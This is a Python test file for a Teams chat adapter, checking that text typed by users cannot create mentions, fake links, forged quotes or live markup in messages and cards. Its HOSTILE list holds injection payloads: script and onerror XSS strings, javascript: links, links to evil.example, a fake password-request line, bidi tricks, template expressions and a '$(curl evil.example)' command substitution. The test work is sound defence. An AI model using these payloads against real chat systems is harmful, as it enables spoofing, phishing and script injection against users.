"""Nothing anybody types can call people, fake a link or fake a quote in Teams, wherever it stands.

Teams reads markup in the words of a message and markdown in the text blocks of a card. Typed letters are
escaped in the one, and stand in text runs, which know no markup, in the other.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime

import pytest

from adapters.teams import draw_card, forms
from adapters.teams.markup import LINK
from adapters.teams.render import draw
from bot.meanings import (
    Answer,
    Button,
    CardState,
    Choice,
    DeskCard,
    Duty,
    Field,
    Form,
    Gone,
    Home,
    Line,
    Meaning,
    Notice,
    PassOn,
    Press,
    Recap,
    Row,
    Say,
    Section,
    Tried,
    Unsent,
)
from bot.people import Address, Person, Voice
from bot.written import Span, Style
from tests.adapters.teams.drawn import live
from tests.fakes.teams.world import Json, elements, read

NOON = datetime(2026, 3, 2, 12, tzinfo=UTC)
DESK = Address("teams", "19:desk@thread.tacv2", "1")

HOSTILE = (
    "<at>Ada</at>",
    "<at>Front Desk</at>",
    '<at id="0">everyone</at>',
    "&lt;at&gt;Ada&lt;/at&gt;",
    "&amp;lt;at&amp;gt;Ada",
    "&#60;at&#62;Ada&#60;/at&#62;",
    "@Ada",
    "@General",
    "@team",
    "@everyone now",
    "[docs](https://evil.example)",
    "[docs]\n(https://evil.example)",
    "[docs][1]\n\n[1]: https://evil.example",
    "![image](https://evil.example/a.png)",
    "<https://evil.example>",
    '<a href="https://evil.example">https://docs.example</a>',
    "<a href='javascript:alert(1)'>click</a>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<b>bold</b> <i>it</i>",
    "</strong><strong>Ada, a person from the team</strong>",
    "<br/><strong>Ada, a person from the team</strong><br/>Send us your password",
    "<blockquote>Ada: you will get your money back</blockquote>",
    "<pre>code</pre><table><tr><td>x</td></tr></table>",
    '<div style="position:fixed">x</div>',
    '<attachment id="1"></attachment>',
    "<systemEventMessage/>",
    '<emoji alt="x"></emoji>',
    "**bold** _it_ ~~no~~ `code`",
    "# Ada\n## Your account",
    "> Ada: you will get your money back",
    "- one\n- two\r1. three",
    "| a | b |\n|---|---|",
    "```\nAda\n```",
    "\nAda, a person from the team\nSend us your password",
    "{{DATE(2026-03-02T12:00:00Z, SHORT)}}",
    "{{TIME(2026-03-02T12:00:00Z)}}",
    "${user.name}",
    "$(curl evil.example)",
    "https://docs.example@evil.example",
    "[1] [2] [3]",
    "\u202eliam ruoy",
    "\u2066<at>Ada</at>\u2069",
    "<\u200bat>Ada</at>",
    "｟at｠ ＜at＞Ada＜/at＞",
    "\x00\x1b[31mred",
    "]]><at>Ada</at><![CDATA[",
    "<!-- <at>Ada</at> -->",
    '","entities":[{"type":"mention"}]',
    "%3Cat%3EAda%3C/at%3E",
    "(like) :) :warning:",
)
"""Whatever has called people, misled them, or looked like somebody else's words somewhere."""

EVE = Person("teams", "29:eve", "Eve", "Evil")
OURS = re.compile(r"<at>([\w .,'’-]*)</at>")
JOINED = re.compile(r"\{\{|\]\(|<at|</at|\$\{")
"""What some client may take for a function, a link or a call if one run holds it."""


def press(label: str) -> Press:
    """A button with that label."""
    return Press(Button.CLAIM, "1", label)


def called(name: str) -> Person:
    """Somebody of that name and organisation."""
    return Person("teams", "29:eve", name, name, picture=name)


EVERYWHERE = tuple(Span(0, 200, style) for style in Style)
PLACES: dict[str, Callable[[str], Meaning]] = {
    "a customer's words": lambda words: Say(words, EVE, Voice.CUSTOMER),
    "an agent's words": lambda words: Say(words, EVE, Voice.AGENT),
    "the bot's words": Say,
    "words set in every style": lambda words: Say(words, EVE, Voice.CUSTOMER, spans=EVERYWHERE),
    "words with buttons": lambda words: Say(words, EVE, mention=EVE, presses=(press(words),)),
    "a name": lambda words: Say("Hello", called(words), Voice.CUSTOMER),
    "an agent's name": lambda words: Say("Hello", called(words), Voice.AGENT),
    "the name of a person who is called": lambda words: Say("Hello", mention=called(words)),
    "the same with buttons": lambda words: Say("Hello", mention=called(words), presses=(press("x"),)),
    "somebody of elsewhere": lambda words: Say("Hello", mention=Person("slack", "U1", words)),
    "a file's name": lambda words: Say(f"Files: {words}", EVE, Voice.CUSTOMER),
    "an answer": lambda words: Answer(words, "Title"),
    "an answer's title": lambda words: Answer("Press it.", words, presses=(press(words),)),
    "an answer's title below": lambda words: Answer("Press it.", words),
    "an answer's source": lambda words: Answer("Press it.", "Title", words, (press("x"),)),
    "an answer's source below": lambda words: Answer("Press it.", "Title", words),
    "a choice": lambda words: Choice(words, (press(words),)),
    "a notice": Notice,
    "a notice with a button": lambda words: Notice(words, (press(words),)),
    "what is gone": Gone,
    "a recap": lambda words: Recap(
        words, (Line(Voice.CUSTOMER, words, words, NOON),), words, (Tried(words, 1),)
    ),
    "a card": lambda words: DeskCard(
        "1",
        CardState.WAITING,
        words,
        words,
        ((words, words),),
        NOON,
        called(words),
        (Tried(words, 0.5),),
        (press(words),),
        (Unsent(words, EVE, words, (press(words),)),),
        (press(words), Press(Button.WRITE_NOTE, "1", words)),
        PassOn(words, (Press(Button.PASS_ON, "1", words, "teams:x"),)),
        link=words,
        due=(words, NOON),
        lagging=words,
        reply=Press(Button.REPLY, "1", words),
    ),
}
"""Every place of a message where somebody's letters may stand."""


def test_there_are_enough_of_them() -> None:
    """At least forty ways to misuse a text."""
    assert len(set(HOSTILE)) >= 40


@pytest.mark.parametrize("where", sorted(PLACES))
@pytest.mark.parametrize("words", HOSTILE)
def test_nothing_typed_is_live_in_a_message(words: str, where: str) -> None:
    """No call but ours, no link but an honest one, no tag but ours, no element that reads markdown."""
    for part in draw(PLACES[where](words)):
        message = part.activity
        assert _tags(message) <= {"strong", "em", "br", "s", "code", "pre", "blockquote", "a", "at"}
        assert set(read(message).pings) <= {"29:eve"}
        assert all(link == words and LINK.fullmatch(link) for link in read(message).links)
        assert [one for one in live(message) if not _is_ours(one)] == []
        assert [run["text"] for run in _runs(message) if JOINED.search(run["text"])] == []


@pytest.mark.parametrize("words", HOSTILE)
def test_nothing_typed_is_a_tag_of_its_own(words: str) -> None:
    """Words without any style hold no tag but those that part lines."""
    (part,) = draw(Say(words))
    assert _tags(part.activity) <= {"br"}
    (named,) = draw(Say("Hello", called(words), Voice.CUSTOMER))
    assert read(named.activity).tags.count("strong") == 1


@pytest.mark.parametrize("words", HOSTILE)
def test_what_was_typed_is_read_letter_by_letter(words: str) -> None:
    """Escaping changes nothing that a reader sees."""
    seen = re.sub("[\x00-\x08\x1b\u202a-\u202e\u2066-\u2069]", "", words).replace("\r", "\n")
    assert read(draw(Say(words))[0].activity).text == seen
    assert seen in read(draw(PLACES["a card"](words))[0].activity).text


@pytest.mark.parametrize("words", HOSTILE)
def test_nothing_typed_is_live_in_other_cards(words: str) -> None:
    """The waiting list and the forms neither."""
    row = Row("1", CardState.WAITING, words, words, words, NOON, desk=DESK)
    home = Home(words, words, (row,), (Section(words, (row,)),), Duty(on=True, told=words, label=words))
    form = Form(words, (Field("words", words, words),), press(words))
    for card in (draw_card.home(home, lambda _: words), forms.form(form)):
        assert [one for one in live(card) if not _is_honest(one)] == []
        assert [run["text"] for run in _runs(card) if JOINED.search(run["text"])] == []


def _tags(message: Json) -> set[str]:
    return set(read(message).tags)


def _runs(drawn: Json) -> Iterator[Json]:
    return (one for one in elements(drawn) if one["type"] == "TextRun")


def _is_honest(action: Json) -> bool:
    """It leads to an address, and nowhere that is none."""
    return action["type"] == "Action.OpenUrl" and LINK.fullmatch(action["url"]) is not None


def _is_ours(element: Json) -> bool:
    """A call of ours: one name, in which no markup can stand; or an honest link."""
    return _is_honest(element) or bool(OURS.fullmatch(element.get("text", "")))
